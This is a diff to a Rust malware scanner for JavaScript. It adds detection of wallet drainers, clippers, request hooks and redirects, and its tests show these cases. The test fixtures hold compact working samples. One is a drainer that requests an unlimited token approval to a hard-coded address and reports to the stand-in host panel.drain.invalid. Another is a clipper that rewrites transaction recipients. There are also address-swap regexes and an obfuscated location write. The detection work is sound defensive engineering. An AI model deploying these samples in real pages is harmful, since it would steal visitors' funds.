@@ -471,7 +471,12 @@ const HARMFUL: Signals = SINKS
     | WORKER
     | WASM
     | DECODED_NAME
-    | CLIPBOARD;
+    | CLIPBOARD
+    // Code that wraps the page's requests, or asks the visitor's wallet to spend or sign,
+    // needs no sink of its own.
+    | HOOK
+    | REQUEST_HOOK
+    | WALLET_SPEND;
 
 /// The outermost units of at most [`LOCAL_MAX_TOKENS`] tokens (and big units with none
 /// inside), in order.
@@ -754,6 +759,10 @@ fn reasons(f: &Features) -> Vec<String> {
         CLIPBOARD,
         SHELL_COMMAND,
         HOOK,
+        WALLET_SPEND,
+        TOKEN_CALL,
+        WALLET_ADDRESS,
+        REQUEST_HOOK,
     ] {
         if f.signals & bit != 0 {
             r.push(signals::describe(bit).to_owned());
@@ -951,6 +960,17 @@ mod tests {
             0,
             "a map keyed by a decoded name is ordinary"
         );
+        let table = "var t = {}; for (var i = 0; i < 26; i++) t[String.fromCharCode(65 + i)] = i;";
+        assert_eq!(
+            features(&analyse(table), None, ctx).signals & DECODED_NAME,
+            0,
+            "a table of the script's own filled under decoded keys hides no method"
+        );
+        let written = "window[atob('bG9jYXRpb24=')] = u;";
+        assert_ne!(
+            features(&analyse(written), None, ctx).signals & DECODED_NAME,
+            0
+        );
     }
 
     /// A network API replaced by the script's own function is a hook; the script's own
@@ -968,9 +988,132 @@ mod tests {
             ("function fetch() {} fetch = null;", false),
             ("this.request = function () {};", false),
             ("(function (w) { w.fetch = null; })(myWindow);", false),
+            // Polyfills install what is missing; they wrap nothing.
+            ("self.fetch || (self.fetch = myFetch);", false),
+            ("var f = window.fetch || (window.fetch = myFetch, window.Headers = H);", false),
+            ("if (!window.fetch) { window.fetch = myFetch; }", false),
+            ("if (!window.fetch) { window.Headers = H; } window.fetch = wrap;", true),
         ] {
             let f = features(&analyse(code), None, ctx);
             assert_eq!(f.signals & HOOK != 0, hook, "{code}");
+        }
+        // Another object's `request` is a request hook, weighed only beside wallet code.
+        let f = features(&analyse("function patch(p) { var o = p.request; p.request = function (a) { return o(a); }; }"), None, ctx);
+        assert_eq!(f.signals & (HOOK | REQUEST_HOOK), REQUEST_HOOK);
+    }
+
+    /// Wallet vocabulary: spend methods, token call data and wallet addresses, from strings
+    /// and regular expressions; a hash or a short hex number is none of them.
+    #[test]
+    fn wallet_words_are_read() {
+        let ctx = Context::default();
+        for (code, bits) in [
+            (
+                r#"eth.request({ method: "eth_sendTransaction", params: [tx] });"#,
+                WALLET_SPEND,
+            ),
+            (
+                r#"var d = "0x095ea7b3" + pad(spender) + "f".repeat(64);"#,
+                TOKEN_CALL,
+            ),
+            (r#"var t = { primaryType: "Permit" };"#, TOKEN_CALL),
+            (
+                r#"var to = "0x5c1E3f9B7a2D4c6E8f0A1b3C5d7E9f2A4b6C8d0E";"#,
+                WALLET_ADDRESS,
+            ),
+            (
+                r#"s = s.replace(/\b0x[a-fA-F0-9]{40}\b/g, swap);"#,
+                WALLET_ADDRESS,
+            ),
+            (
+                r#"s = s.replace(/\b(bc1[a-z0-9]{25,39})\b/g, swap);"#,
+                WALLET_ADDRESS,
+            ),
+            (
+                r#"var v = "0x1f"; var h = "d41d8cd98f00b204e9800998ecf8427e";"#,
+                0,
+            ),
+            (r#"eth.request({ method: "eth_requestAccounts" });"#, 0),
+        ] {
+            let s = features(&analyse(code), None, ctx).signals;
+            assert_eq!(
+                s & (WALLET_SPEND | TOKEN_CALL | WALLET_ADDRESS),
+                bits,
+                "{code}"
+            );
+        }
+    }
+
+    /// A wallet asked for a token approval written into the script, reported to a new
+    /// host, is the drainer signature; wrapping the provider where transactions pass is
+    /// the clipper signature. A dapp that sends what its user asked for is neither.
+    #[test]
+    fn wallet_drainers_and_clippers_are_signatures() {
+        const DRAINER: &str = "(wallet drainer)";
+        const CLIPPER: &str = "(clipper)";
+        let ctx = Context::default();
+        let drainer = r#"(function () {
+            var spender = "0x7a3c19e5b2d48f6a0c1e9b37d5f82a4c6e0b1d93";
+            function approve(eth, from, token) {
+                var data = "0x095ea7b3" + spender.slice(2).padStart(64, "0") + "f".repeat(64);
+                return eth.request({ method: "eth_sendTransaction", params: [{ from: from, to: token, data: data }] })
+                    .then(function (tx) { return fetch("https://panel.drain.invalid/ok", { method: "POST", body: JSON.stringify({ tx: tx }) }); });
+            }
+            window.ethereum.request({ method: "eth_requestAccounts" }).then(function (a) { approve(window.ethereum, a[0], "0x1111111111111111111111111111111111111111"); });
+        })();"#;
+        let v = classify("x.js", &analyse(drainer), None, ctx);
+        assert!(
+            v.malicious && v.reasons.iter().any(|r| r.contains(DRAINER)),
+            "{v:?}"
+        );
+        let clipper = r#"(function () {
+            function patch(eth) {
+                var orig = eth.request.bind(eth);
+                eth.request = function (args) {
+                    if (args.method === "eth_sendTransaction") { args.params[0].to = "0x7a3c19e5b2d48f6a0c1e9b37d5f82a4c6e0b1d93"; }
+                    return orig(args);
+                };
+            }
+            patch(window.ethereum);
+        })();"#;
+        let v = classify("x.js", &analyse(clipper), None, ctx);
+        assert!(
+            v.malicious && v.reasons.iter().any(|r| r.contains(CLIPPER)),
+            "{v:?}"
+        );
+        let dapp = r#"(function () {
+            document.getElementById("pay").addEventListener("click", function () {
+                var to = document.getElementById("to").value;
+                window.ethereum.request({ method: "eth_sendTransaction", params: [{ to: to, value: "0x2386f26fc10000" }] });
+            });
+        })();"#;
+        let v = classify("x.js", &analyse(dapp), None, ctx);
+        assert!(
+            !v.reasons
+                .iter()
+                .any(|r| r.contains(DRAINER) || r.contains(CLIPPER)),
+            "{v:?}"
+        );
+    }
+
+    /// Handing the visitor to an app (`ledgerlive://`, `mailto:`) leaves the page where it
+    /// is: no redirect. Navigating to a web page is one.
+    #[test]
+    fn an_app_link_is_no_redirect() {
+        let ctx = Context::default();
+        for (code, redirect) in [
+            (
+                "window.location.href = `ledgerlive://wc?uri=${encodeURIComponent(u)}`;",
+                false,
+            ),
+            ("location.href = 'mailto:' + addr;", false),
+            ("location.assign('tg://resolve?domain=x');", false),
+            ("location.href = 'https://ads.invalid/?u=' + u;", true),
+            ("location.replace(url);", true),
+            ("location.href = '//ads.invalid/';", true),
+        ] {
+            let s = features(&analyse(code), None, ctx).signals;
+            assert_eq!(s & REDIRECT != 0, redirect, "{code}");
         }
     }
 
